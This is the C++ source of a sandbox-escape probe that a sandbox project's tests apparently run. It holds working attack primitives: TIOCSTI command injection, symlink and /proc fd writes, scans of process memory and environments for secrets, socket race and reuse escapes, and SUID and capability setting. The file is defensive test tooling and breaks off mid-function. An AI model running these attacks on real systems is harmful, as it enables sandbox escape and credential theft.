// moat-probe: the multi-call attack helper that escape and integration tests run INSIDE sandboxes.
// One attack per invocation; prints exactly one line, `OK <detail>` (exit 0) or `ERR <ERRNO> <detail>` (exit 1).
//
// The probe also models the attacker's own binary: tests copy it into the project and run
// `./moat-probe VERB ARGS...`. It is deliberately self-contained (no project libraries) and uses raw
// syscalls where glibc has no wrapper, so that what it tries is exactly what the kernel sees.
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/capability.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/userfaultfd.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <functional>
#include <sstream>
#include <string>
#include <string_view>
#include <thread>
#include <vector>

namespace {

using Args = std::vector<std::string>;

// The string a TIOCSTI attack pushes into the terminal. Never printed by the probe, so a test that finds
// it in the terminal's output or input queue knows the injection worked.
constexpr char kTiocstiPayload[] = "echo MOAT-TIOCSTI-PWNED\n";

const char* errno_name(int e) {
  switch (e) {
#define E(x) \
  case x:    \
    return #x;
    E(EPERM) E(ENOENT) E(ESRCH) E(EINTR) E(EIO) E(ENXIO) E(E2BIG) E(ENOEXEC) E(EBADF) E(ECHILD)
    E(EAGAIN) E(ENOMEM) E(EACCES) E(EFAULT) E(EBUSY) E(EEXIST) E(EXDEV) E(ENODEV) E(ENOTDIR)
    E(EISDIR) E(EINVAL) E(ENFILE) E(EMFILE) E(ENOTTY) E(ETXTBSY) E(EFBIG) E(ENOSPC) E(ESPIPE)
    E(EROFS) E(EMLINK) E(EPIPE) E(ERANGE) E(ENAMETOOLONG) E(ENOSYS) E(ENOTEMPTY) E(ELOOP)
    E(ENODATA) E(EAFNOSUPPORT) E(EADDRINUSE) E(EADDRNOTAVAIL) E(ENETDOWN)
    E(ENETUNREACH) E(ECONNREFUSED) E(ECONNRESET) E(ETIMEDOUT) E(EHOSTUNREACH) E(EALREADY)
    E(EINPROGRESS) E(EOPNOTSUPP) E(EPROTONOSUPPORT) E(ENOTSOCK) E(EDQUOT) E(ENOKEY)
    E(EKEYREJECTED) E(EOVERFLOW)
#undef E
    default:
      return "EUNKNOWN";
  }
}

// Keeps every report on one line so that tests can match whole lines and grep canaries.
std::string escape(std::string_view s, size_t limit = 4096) {
  std::string out;
  for (size_t i = 0; i < s.size() && i < limit; ++i) {
    unsigned char c = static_cast<unsigned char>(s[i]);
    if (c == '\n') {
      out += "\\n";
    } else if (c == '\0') {
      out += ' ';
    } else if (c < 0x20 || c == 0x7f) {
      char buf[8];
      snprintf(buf, sizeof buf, "\\x%02x", c);
      out += buf;
    } else {
      out += static_cast<char>(c);
    }
  }
  return out;
}

int ok(const std::string& detail) {
  printf("OK %s\n", detail.c_str());
  fflush(stdout);
  return 0;
}

int err(int e, const std::string& detail) {
  printf("ERR %s %s\n", errno_name(e), detail.c_str());
  fflush(stdout);
  return 1;
}

int usage(const std::string& verb, const char* synopsis) {
  printf("ERR EINVAL usage: moat-probe %s %s\n", verb.c_str(), synopsis);
  return 2;
}

bool read_fd_all(int fd, std::string* out) {
  char buf[4096];
  for (;;) {
    ssize_t n = read(fd, buf, sizeof buf);
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    if (n == 0) return true;
    out->append(buf, static_cast<size_t>(n));
  }
}

int report_read(int fd, const std::string& what) {
  std::string content;
  if (!read_fd_all(fd, &content)) {
    int e = errno;
    close(fd);
    return err(e, "read " + what);
  }
  close(fd);
  return ok("read " + std::to_string(content.size()) + " bytes: " + escape(content));
}

// ---- file system -------------------------------------------------------------------------------

int do_read(const Args& a) {
  int fd = open(a[0].c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return err(errno, "open " + a[0]);
  return report_read(fd, a[0]);
}

int do_read_at(const Args& a) {
  int dirfd = atoi(a[0].c_str());
  int fd = openat(dirfd, a[1].c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return err(errno, "openat " + a[0] + " " + a[1]);
  return report_read(fd, a[1]);
}

int do_read_fd(const Args& a) {
  int fd = atoi(a[0].c_str());
  if (lseek(fd, 0, SEEK_SET) < 0 && errno == EBADF) return err(EBADF, "fd " + a[0]);
  return report_read(fd, "fd " + a[0]);
}

int do_write(const Args& a) {
  // O_CREAT without O_EXCL follows a symlink in the last component: that is the point of the
  // symlink attacks that use this verb.
  int fd = open(a[0].c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0) return err(errno, "open " + a[0]);
  ssize_t n = write(fd, a[1].data(), a[1].size());
  if (n < 0) {
    int e = errno;
    close(fd);
    return err(e, "write " + a[0]);
  }
  if (close(fd) < 0) return err(errno, "close " + a[0]);
  return ok("wrote " + std::to_string(n) + " bytes to " + a[0]);
}

int do_append(const Args& a) {
  int fd = open(a[0].c_str(), O_WRONLY | O_APPEND | O_CLOEXEC);
  if (fd < 0) return err(errno, "open " + a[0]);
  ssize_t n = write(fd, a[1].data(), a[1].size());
  int e = errno;
  close(fd);
  if (n < 0) return err(e, "write " + a[0]);
  return ok("appended " + std::to_string(n) + " bytes to " + a[0]);
}

// Proves write access without changing a byte: used on files a broken sandbox must never damage
// (/etc/passwd when the suite runs as root).
int do_open_w(const Args& a) {
  int fd = open(a[0].c_str(), O_WRONLY | O_APPEND | O_CLOEXEC);
  if (fd < 0) return err(errno, "open O_WRONLY " + a[0]);
  close(fd);
  return ok("opened for writing " + a[0]);
}

int do_create(const Args& a) {
  int fd = open(a[0].c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
  if (fd < 0) return err(errno, "create " + a[0]);
  close(fd);
  return ok("created " + a[0]);
}

int do_mkdir(const Args& a) {
  if (mkdir(a[0].c_str(), 0755) < 0) return err(errno, "mkdir " + a[0]);
  return ok("mkdir " + a[0]);
}

int do_symlink(const Args& a) {
  if (symlink(a[0].c_str(), a[1].c_str()) < 0) return err(errno, "symlink " + a[0] + " " + a[1]);
  return ok("symlink " + a[1] + " -> " + a[0]);
}

int do_hardlink(const Args& a) {
  if (link(a[0].c_str(), a[1].c_str()) < 0) return err(errno, "link " + a[0] + " " + a[1]);
  return ok("link " + a[1] + " => " + a[0]);
}

// Writes CONTENT to PATH through a second open of a /proc magic link to a read-only descriptor
// of it: VIA is `self` (/proc/self/fd/N), `thread-self` or `pid` (/proc/PID/fd/N). The written
// file appears in the open only as the /proc path. Both descriptors stay open for a second, as
// a process that goes on working would keep them.
int do_write_proc_fd(const Args& a) {
  int fd = open(a[0].c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return err(errno, "open " + a[0]);
  const std::string via = a.size() > 2 ? a[2] : "self";
  std::string dir = via == "pid" ? std::to_string(getpid()) : via;
  std::string magic = "/proc/" + dir + "/fd/" + std::to_string(fd);
  int w = open(magic.c_str(), O_WRONLY | O_TRUNC | O_CLOEXEC);
  if (w < 0) return err(errno, "open O_WRONLY " + magic);
  if (write(w, a[1].data(), a[1].size()) < 0) return err(errno, "write " + magic);
  sleep(1);
  close(w);
  close(fd);
  return ok("wrote " + a[0] + " through " + magic);
}

// truncate(PATH, LEN), or with `fd` as the third argument ftruncate of a descriptor of PATH
// opened for writing (held for a second afterwards).
int do_truncate(const Args& a) {
  off_t len = static_cast<off_t>(atoll(a[1].c_str()));
  if (a.size() < 3) {
    if (truncate(a[0].c_str(), len) < 0) return err(errno, "truncate " + a[0]);
    return ok("truncated " + a[0]);
  }
  int fd = open(a[0].c_str(), O_WRONLY | O_CLOEXEC);
  if (fd < 0) return err(errno, "open O_WRONLY " + a[0]);
  if (ftruncate(fd, len) < 0) return err(errno, "ftruncate " + a[0]);
  sleep(1);
  close(fd);
  return ok("ftruncated " + a[0]);
}

// A file that never had a name, given one: open(DIR, O_TMPFILE), write CONTENT, then linkat it
// to NEWPATH through /proc/self/fd/N (HOW `proc`, AT_SYMLINK_FOLLOW) or the descriptor itself
// (HOW `empty`, AT_EMPTY_PATH). Holds the descriptor for a second afterwards.
int do_tmpfile_link(const Args& a) {
  int fd = open(a[0].c_str(), O_TMPFILE | O_WRONLY | O_CLOEXEC, 0644);
  if (fd < 0) return err(errno, "open O_TMPFILE " + a[0]);
  if (write(fd, a[2].data(), a[2].size()) < 0) return err(errno, "write O_TMPFILE");
  const std::string how = a.size() > 3 ? a[3] : "proc";
  int rc;
  if (how == "empty") {
    rc = linkat(fd, "", AT_FDCWD, a[1].c_str(), AT_EMPTY_PATH);
  } else {
    std::string magic = "/proc/self/fd/" + std::to_string(fd);
    rc = linkat(AT_FDCWD, magic.c_str(), AT_FDCWD, a[1].c_str(), AT_SYMLINK_FOLLOW);
  }
  if (rc < 0) return err(errno, "linkat(" + how + ") " + a[1]);
  sleep(1);
  close(fd);
  return ok("linked a tmpfile as " + a[1]);
}

// The main thread leaves with pthread_exit while a second thread goes on: it creates FILE,
// changes to DIR and execs PROG ARGS... (a non-leader thread's exec takes over the process).
int do_leader_exit(const Args& a) {
  static Args args;
  args = a;
  pthread_t t;
  int rc = pthread_create(
      &t, nullptr,
      [](void*) -> void* {
        usleep(300 * 1000);  // the leader's exit is long traced and read by now
        int fd = open(args[0].c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (fd < 0) _exit(err(errno, "open " + args[0]));
        close(fd);
        if (chdir(args[1].c_str()) < 0) _exit(err(errno, "chdir " + args[1]));
        usleep(100 * 1000);
        ok("created " + args[0] + " after the leader left; exec " + args[2]);
        std::vector<char*> argv;
        for (size_t i = 2; i < args.size(); ++i) argv.push_back(args[i].data());
        argv.push_back(nullptr);
        execv(argv[0], argv.data());
        _exit(err(errno, "execv " + args[2]));
      },
      nullptr);
  if (rc != 0) return err(rc, "pthread_create");
  pthread_exit(nullptr);
}

int do_rename(const Args& a) {
  if (rename(a[0].c_str(), a[1].c_str()) < 0) return err(errno, "rename " + a[0] + " " + a[1]);
  return ok("rename " + a[0] + " " + a[1]);
}

int do_unlink(const Args& a) {
  if (unlink(a[0].c_str()) < 0) return err(errno, "unlink " + a[0]);
  return ok("unlink " + a[0]);
}

// ---- sockets -----------------------------------------------------------------------------------

int connect_and_hello(int fd, const sockaddr* sa, socklen_t len, const std::string& what) {
  if (connect(fd, sa, len) < 0) {
    int e = errno;
    close(fd);
    return err(e, "connect " + what);
  }
  static const char kHello[] = "MOAT-PROBE-HELLO\n";
  ssize_t n = send(fd, kHello, sizeof kHello - 1, MSG_NOSIGNAL);
  close(fd);
  return ok("connected " + what + " sent " + std::to_string(n));
}

int do_connect_unix(const Args& a) {
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return err(errno, "socket AF_UNIX");
  sockaddr_un sa{};
  sa.sun_family = AF_UNIX;
  if (a[0].size() >= sizeof sa.sun_path) return err(ENAMETOOLONG, a[0]);
  memcpy(sa.sun_path, a[0].data(), a[0].size());
  return connect_and_hello(fd, reinterpret_cast<sockaddr*>(&sa), sizeof sa, "unix:" + a[0]);
}

int do_connect_abstract(const Args& a) {
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return err(errno, "socket AF_UNIX");
  sockaddr_un sa{};
  sa.sun_family = AF_UNIX;
  if (a[0].size() + 1 >= sizeof sa.sun_path) return err(ENAMETOOLONG, a[0]);
  memcpy(sa.sun_path + 1, a[0].data(), a[0].size());
  socklen_t len = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + a[0].size());
  return connect_and_hello(fd, reinterpret_cast<sockaddr*>(&sa), len, "abstract:@" + a[0]);
}

int do_connect_tcp(const Args& a) {
  sockaddr_storage ss{};
  socklen_t len;
  int family;
  auto* s4 = reinterpret_cast<sockaddr_in*>(&ss);
  auto* s6 = reinterpret_cast<sockaddr_in6*>(&ss);
  uint16_t port = static_cast<uint16_t>(atoi(a[1].c_str()));
  if (inet_pton(AF_INET, a[0].c_str(), &s4->sin_addr) == 1) {
    family = s4->sin_family = AF_INET;
    s4->sin_port = htons(port);
    len = sizeof *s4;
  } else if (inet_pton(AF_INET6, a[0].c_str(), &s6->sin6_addr) == 1) {
    family = s6->sin6_family = AF_INET6;
    s6->sin6_port = htons(port);
    len = sizeof *s6;
  } else {
    return err(EINVAL, "bad address " + a[0]);
  }
  int fd = socket(family, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return err(errno, "socket");
  return connect_and_hello(fd, reinterpret_cast<sockaddr*>(&ss), len, "tcp:" + a[0] + ":" + a[1]);
}

// Connects to HOST PORT (allowed: the gate hands over a socket it connected), then tries to use
// that very socket elsewhere: connect(AF_UNSPEC) to disconnect it, then a connect to THOST TPORT
// (the host's loopback, from outside the sandbox's namespace); also a unix-family connect on it,
// the first half of a sockaddr rewritten between the gate's check and the kernel's use. Reports
// the errno of each step; "connected" only if the second connect succeeded.
// HOST (an address, or a name resolved by the sandbox's stub, so that the gate binds the
// connection to it) and PORT as an IPv4 sockaddr.
bool resolve_v4(const std::string& host, const std::string& port, sockaddr_in* out) {
  *out = {};
  out->sin_family = AF_INET;
  out->sin_port = htons(static_cast<uint16_t>(atoi(port.c_str())));
  if (inet_pton(AF_INET, host.c_str(), &out->sin_addr) == 1) return true;
  addrinfo hints{};
  hints.ai_family = AF_INET;
  hints.ai_socktype = SOCK_STREAM;
  addrinfo* found = nullptr;
  if (getaddrinfo(host.c_str(), nullptr, &hints, &found) != 0 || found == nullptr) return false;
  out->sin_addr = reinterpret_cast<sockaddr_in*>(found->ai_addr)->sin_addr;
  freeaddrinfo(found);
  return true;
}

int do_reconnect_tcp(const Args& a) {
  sockaddr_in first{};
  if (!resolve_v4(a[0], a[1], &first)) return err(ENOENT, "resolve " + a[0]);
  sockaddr_in second{};
  second.sin_family = AF_INET;
  second.sin_port = htons(static_cast<uint16_t>(atoi(a[3].c_str())));
  if (inet_pton(AF_INET, a[2].c_str(), &second.sin_addr) != 1) return err(EINVAL, "bad address");
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return err(errno, "socket");
  if (connect(fd, reinterpret_cast<sockaddr*>(&first), sizeof first) < 0) {
    return err(errno, "first connect");
  }
  sockaddr_un unix_family{};
  unix_family.sun_family = AF_UNIX;
  std::strcpy(unix_family.sun_path, "/nonexistent-moat-probe");
  int unix_errno =
      connect(fd, reinterpret_cast<sockaddr*>(&unix_family), sizeof unix_family) < 0 ? errno : 0;
  sockaddr unspec{};
  unspec.sa_family = AF_UNSPEC;
  int unspec_errno = connect(fd, &unspec, sizeof unspec) < 0 ? errno : 0;
  std::string steps = std::string("unix-family ") + (unix_errno ? errno_name(unix_errno) : "0") +
                      " unspec " + (unspec_errno ? errno_name(unspec_errno) : "0");
  return connect_and_hello(fd, reinterpret_cast<sockaddr*>(&second), sizeof second,
                           steps + " then tcp:" + a[2] + ":" + a[3]);
}

// An allowed HTTP connection (the gate's socket, living in the host's network namespace), run to
// its end: request, the server's answer and close, our shutdown, until the socket is closed. Then
// every way to give a closed TCP socket a new life: TCP Fast Open's sendto() to THOST:TPORT
// (twice: the first only ends the old connect), connect() to it (twice), bind() to port BPORT
// of every address and listen(). OK when any of them succeeded; the outcome of each is printed.
int do_reuse_closed_tcp(const Args& a) {
  sockaddr_in first{};
  if (!resolve_v4(a[0], a[1], &first)) return err(ENOENT, "resolve " + a[0]);
  sockaddr_in target{};
  target.sin_family = AF_INET;
  target.sin_port = htons(static_cast<uint16_t>(atoi(a[3].c_str())));
  if (inet_pton(AF_INET, a[2].c_str(), &target.sin_addr) != 1) return err(EINVAL, "bad address");
  sockaddr_in any{};
  any.sin_family = AF_INET;
  any.sin_port = htons(static_cast<uint16_t>(atoi(a[4].c_str())));
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return err(errno, "socket");
  if (connect(fd, reinterpret_cast<sockaddr*>(&first), sizeof first) < 0) {
    return err(errno, "first connect");
  }
  const std::string request = "GET / HTTP/1.0\r\nHost: " + a[0] + "\r\n\r\n";
  (void)!send(fd, request.data(), request.size(), MSG_NOSIGNAL);
  char buf[4096];
  timeval tv{5, 0};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  while (recv(fd, buf, sizeof buf, 0) > 0) {
  }
  shutdown(fd, SHUT_WR);
  for (int i = 0; i < 200; ++i) {
    tcp_info info{};
    socklen_t len = sizeof info;
    if (getsockopt(fd, IPPROTO_TCP, TCP_INFO, &info, &len) == 0 && info.tcpi_state == TCP_CLOSE) {
      break;
    }
    usleep(10000);
  }
  bool any_succeeded = false;
  std::string outcome;
  auto note = [&](const char* step, int rc) {
    any_succeeded = any_succeeded || rc >= 0;
    outcome +=
        std::string(outcome.empty() ? "" : " ") + step + " " + (rc >= 0 ? "0" : errno_name(errno));
  };
  static const char kHello[] = "MOAT-PROBE-HELLO\n";
  for (const char* step : {"fastopen", "fastopen"}) {
    note(step, static_cast<int>(sendto(fd, kHello, sizeof kHello - 1, MSG_FASTOPEN | MSG_NOSIGNAL,
                                       reinterpret_cast<sockaddr*>(&target), sizeof target)));
  }
  for (const char* step : {"connect", "connect"}) {
    note(step, connect(fd, reinterpret_cast<sockaddr*>(&target), sizeof target));
  }
  note("bind", bind(fd, reinterpret_cast<sockaddr*>(&any), sizeof any));
  note("listen", listen(fd, 4));
  usleep(500000);  // a listener, had there been one, stays up for the test to find
  close(fd);
  return any_succeeded ? ok(outcome) : err(EACCES, outcome);
}

// The descriptor-swap race against the gate's check, for SECONDS: a socket the gate handed over
// (HOST:PORT, asked for as MPTCP: refused, or turned into TCP by the gate) and a unix socket of the
// sandbox take turns at one descriptor number, while another thread connects that number to a
// buffer holding a unix sockaddr, rewritten in between to AF_UNSPEC (disconnect) and to
// THOST:TPORT. The gate checks a unix connect on the sandbox's socket and lets it through; the
// kernel then acts on whatever the number and the buffer hold. OK when the handed-over socket
// ended up connected to THOST:TPORT (it then says hello there).
int do_race_swap_connect(const Args& a) {
  sockaddr_in allowed{};
  if (!resolve_v4(a[0], a[1], &allowed)) return err(ENOENT, "resolve " + a[0]);
  sockaddr_in target{};
  target.sin_family = AF_INET;
  target.sin_port = htons(static_cast<uint16_t>(atoi(a[3].c_str())));
  if (inet_pton(AF_INET, a[2].c_str(), &target.sin_addr) != 1) return err(EINVAL, "bad address");
  const int seconds = atoi(a[4].c_str());
  int handed = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 262 /*IPPROTO_MPTCP*/);
  const bool mptcp = handed >= 0;
  if (!mptcp) handed = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (handed < 0) return err(errno, "socket");
  if (connect(handed, reinterpret_cast<sockaddr*>(&allowed), sizeof allowed) < 0) {
    return err(errno, "first connect");
  }
  const int unix_sock = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  const int slot = dup(unix_sock);
  sockaddr_un unix_addr{};
  unix_addr.sun_family = AF_UNIX;
  std::memcpy(unix_addr.sun_path, "\0moat-race", 10);
  alignas(sockaddr_un) static char buffer[sizeof(sockaddr_un)];
  std::memcpy(buffer, &unix_addr, sizeof unix_addr);
  std::atomic<bool> stop{false};
  std::thread swapper([&] {
    sockaddr unspec{};
    unspec.sa_family = AF_UNSPEC;
    for (unsigned i = 0; !stop; ++i) {
      dup2(unix_sock, slot);
      std::memcpy(buffer, &unix_addr, sizeof unix_addr);
      dup2(handed, slot);
      if (i % 2 == 0) {
        std::memcpy(buffer, &unspec, sizeof unspec);
      } else {
        std::memcpy(buffer, &target, sizeof target);
      }
    }
  });
  const auto end = std::chrono::steady_clock::now() + std::chrono::seconds(seconds);
  long tries = 0;
  while (std::chrono::steady_clock::now() < end) {
    (void)!connect(slot, reinterpret_cast<sockaddr*>(buffer), sizeof(sockaddr_un));
    ++tries;
  }
  stop = true;
  swapper.join();
  sockaddr_in peer{};
  socklen_t len = sizeof peer;
  const bool escaped = getpeername(handed, reinterpret_cast<sockaddr*>(&peer), &len) == 0 &&
                       peer.sin_port == target.sin_port &&
                       peer.sin_addr.s_addr == target.sin_addr.s_addr;
  const std::string what = std::string(mptcp ? "mptcp" : "tcp") + " tries " + std::to_string(tries);
  if (!escaped) return err(EACCES, what);
  static const char kHello[] = "MOAT-PROBE-HELLO\n";
  (void)!send(handed, kHello, sizeof kHello - 1, MSG_NOSIGNAL);
  return ok("reconnected " + what);
}

// ---- processes ---------------------------------------------------------------------------------

int do_kill(const Args& a) {
  pid_t pid = atoi(a[0].c_str());
  int sig = atoi(a[1].c_str());
  if (kill(pid, sig) < 0) return err(errno, "kill " + a[0] + " " + a[1]);
  return ok("kill " + a[0] + " " + a[1]);
}

int do_ptrace(const Args& a) {
  pid_t pid = atoi(a[0].c_str());
  if (ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) < 0) return err(errno, "PTRACE_SEIZE " + a[0]);
  ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
  return ok("PTRACE_SEIZE " + a[0]);
}

int do_vm_read(const Args& a) {
  pid_t pid = atoi(a[0].c_str());
  // Aim at the first readable mapping when /proc lets us see it; otherwise a plausible address (the
  // seccomp rule must answer EPERM before the kernel ever looks at it).
  unsigned long addr = 0x400000;
  std::ifstream maps("/proc/" + a[0] + "/maps");
  std::string line;
  while (std::getline(maps, line)) {
    unsigned long lo = 0, hi = 0;
    char perms[8] = {};
    if (sscanf(line.c_str(), "%lx-%lx %4s", &lo, &hi, perms) == 3 && perms[0] == 'r') {
      addr = lo;
      break;
    }
  }
  char buf[64];
  iovec local{buf, sizeof buf};
  iovec remote{reinterpret_cast<void*>(addr), sizeof buf};
  ssize_t n = process_vm_readv(pid, &local, 1, &remote, 1, 0);
  if (n < 0) return err(errno, "process_vm_readv " + a[0]);
  return ok("process_vm_readv " + a[0] + " read " + std::to_string(n) + " bytes");
}

int do_environ(const Args& a) {
  std::string path = "/proc/" + a[0] + "/environ";
  int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return err(errno, "open " + path);
  return report_read(fd, path);
}

// Scans every /proc/PID/environ visible from here for NEEDLE (pids inside a pid namespace differ from
// the host's, so the attacker does not need to know the pid). Never prints the environment itself.
int do_environ_scan(const Args& a) {
  DIR* d = opendir("/proc");
  if (!d) return err(errno, "opendir /proc");
  std::string found;
  int scanned = 0;
  while (dirent* e = readdir(d)) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    std::string path = std::string("/proc/") + e->d_name + "/environ";
    int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    std::string env;
    read_fd_all(fd, &env);
    close(fd);
    ++scanned;
    if (env.find(a[0]) != std::string::npos) found += std::string(found.empty() ? "" : ",") + e->d_name;
  }
  closedir(d);
  if (found.empty()) return err(ENOENT, "needle not found in " + std::to_string(scanned) + " environs");
  return ok("needle found in pid " + found);
}

// Reads the memory of every other process visible here through /proc/PID/mem and looks for the
// needle, given REVERSED so that it is not in any process's argv (the tj-actions/changed-files
// attack dumped the runner's memory this way to harvest secrets).
int do_mem_scan(const Args& a) {
  std::string needle(a[0].rbegin(), a[0].rend());
  DIR* d = opendir("/proc");
  if (!d) return err(errno, "opendir /proc");
  std::string found;
  int opened = 0, first_errno = 0;
  while (dirent* e = readdir(d)) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    if (atoi(e->d_name) == getpid()) continue;
    std::string dir = std::string("/proc/") + e->d_name;
    int mem = open((dir + "/mem").c_str(), O_RDONLY | O_CLOEXEC);
    if (mem < 0) {
      if (first_errno == 0) first_errno = errno;
      continue;
    }
    ++opened;
    std::ifstream maps(dir + "/maps");
    std::string line;
    bool hit = false;
    while (!hit && std::getline(maps, line)) {
      unsigned long lo = 0, hi = 0;
      char perms[8] = {};
      if (sscanf(line.c_str(), "%lx-%lx %4s", &lo, &hi, perms) != 3 || perms[0] != 'r') continue;
      if (hi - lo > (64ul << 20)) continue;
      std::string buf(hi - lo, '\0');
      ssize_t n = pread(mem, buf.data(), buf.size(), static_cast<off_t>(lo));
      if (n > 0 && std::string_view(buf.data(), static_cast<size_t>(n)).find(needle) != std::string_view::npos) {
        hit = true;
      }
    }
    close(mem);
    if (hit) found += std::string(found.empty() ? "" : ",") + e->d_name;
  }
  closedir(d);
  if (!found.empty()) return ok("needle found in memory of pid " + found);
  if (opened == 0 && first_errno != 0) return err(first_errno, "no /proc/PID/mem could be opened");
  return err(ENOENT, "needle not found in " + std::to_string(opened) + " processes' memory");
}

int hexval(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

// Writes raw bytes (given in hex) to PATH without creating or truncating it: forged messages into
// pipes reachable through /proc/PID/fd/N.
int do_write_hex(const Args& a) {
  std::string bytes;
  for (size_t i = 0; i + 1 < a[1].size(); i += 2) {
    bytes += static_cast<char>(hexval(a[1][i]) * 16 + hexval(a[1][i + 1]));
  }
  int fd = open(a[0].c_str(), O_WRONLY | O_CLOEXEC);
  if (fd < 0) return err(errno, "open O_WRONLY " + a[0]);
  ssize_t n = write(fd, bytes.data(), bytes.size());
  int e = errno;
  close(fd);
  if (n < 0) return err(e, "write " + a[0]);
  return ok("wrote " + std::to_string(n) + " raw bytes to " + a[0]);
}

// ---- terminal ----------------------------------------------------------------------------------

// `tiocsti hi` sets bits above 32 in the request: the kernel truncates the command to 32 bits, so a
// filter comparing all 64 bits is bypassed (CVE-2019-10063, flatpak).
int do_tiocsti(const Args& a) {
  int fd = 0;
  if (!isatty(0)) {
    fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
    if (fd < 0) return err(errno, "no terminal on fd 0 and open /dev/tty");
  }
  unsigned long request = TIOCSTI;
  if (!a.empty() && a[0] == "hi") request |= 1ul << 32;
  size_t pushed = 0;
  for (const char* p = kTiocstiPayload; *p; ++p) {
    if (syscall(SYS_ioctl, fd, request, p) < 0) {
      return err(errno, "ioctl TIOCSTI after " + std::to_string(pushed) + " bytes");
    }
    ++pushed;
  }
  return ok("TIOCSTI pushed " + std::to_string(pushed) + " bytes");
}

int do_tioclinux(const Args&) {
  char subcode = 12;  // TIOCL_GETSHIFTSTATE: harmless, but any TIOCLINUX must be refused by seccomp
  if (ioctl(0, TIOCLINUX, &subcode) < 0) return err(errno, "ioctl TIOCLINUX");
  return ok("ioctl TIOCLINUX");
}

// ---- privileges --------------------------------------------------------------------------------

int do_chmod_suid(const Args& a) {
  if (chmod(a[0].c_str(), 04755) < 0) return err(errno, "chmod 04755 " + a[0]);
  struct stat st{};
  stat(a[0].c_str(), &st);
  char mode[16];
  snprintf(mode, sizeof mode, "%o", st.st_mode & 07777);
  return ok("chmod 04755 " + a[0] + " mode now " + mode);
}

int do_create_suid(const Args& a) {
  int fd = open(a[0].c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 04755);
  if (fd < 0) return err(errno, "open O_CREAT 04755 " + a[0]);
  struct stat st{};
  fstat(fd, &st);
  close(fd);
  char mode[16];
  snprintf(mode, sizeof mode, "%o", st.st_mode & 07777);
  return ok("created " + a[0] + " mode " + mode);
}

int do_setcap(const Args& a) {
  // VFS_CAP_REVISION_2: cap_setuid + cap_sys_admin, effective bit set.
  vfs_cap_data cap{};
  cap.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE;
  cap.data[0].permitted = (1u << CAP_SETUID) | (1u << CAP_SYS_ADMIN);
  cap.data[0].inheritable = 0;
  if (setxattr(a[0].c_str(), "security.capability", &cap, XATTR_CAPS_SZ_2, 0) < 0) {
    return err(errno, "setxattr security.capability " + a[0]);
  }
  return ok("setxattr security.capability " + a[0]);
}

int do_unshare_user(const Args&) {
  if (unshare(CLONE_NEWUSER) < 0) return err(errno, "unshare CLONE_NEWUSER");
  return ok("unshare CLONE_NEWUSER");
}

int do_clone_user(const Args&) {
  long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, nullptr, nullptr, nullptr, nullptr);
  if (pid < 0) return err(errno, "clone CLONE_NEWUSER");
  if (pid == 0) _exit(0);
  waitpid(static_cast<pid_t>(pid), nullptr, 0);
  return ok("clone CLONE_NEWUSER");
}

struct CloneArgs {  // struct clone_args, carried here: glibc 2.36 has no header for it
  uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls, set_tid,
      set_tid_size, cgroup;
};

int do_clone3_user(const Args&) {
  CloneArgs ca{};
  ca.flags = CLONE_NEWUSER;
  ca.exit_signal = SIGCHLD;
  long pid = syscall(SYS_clone3, &ca, sizeof ca);
  if (pid < 0) return err(errno, "clone3 CLONE_NEWUSER");
  if (pid == 0) _exit(0);
  waitpid(static_cast<pid_t>(pid), nullptr, 0);
  return ok("clone3 CLONE_NEWUSER");
}

int do_mount(const Args&) {
  if (mount("moat-probe", "/tmp", "tmpfs", 0, nullptr) < 0) return err(errno, "mount tmpfs /tmp");
  umount2("/tmp", MNT_DETACH);
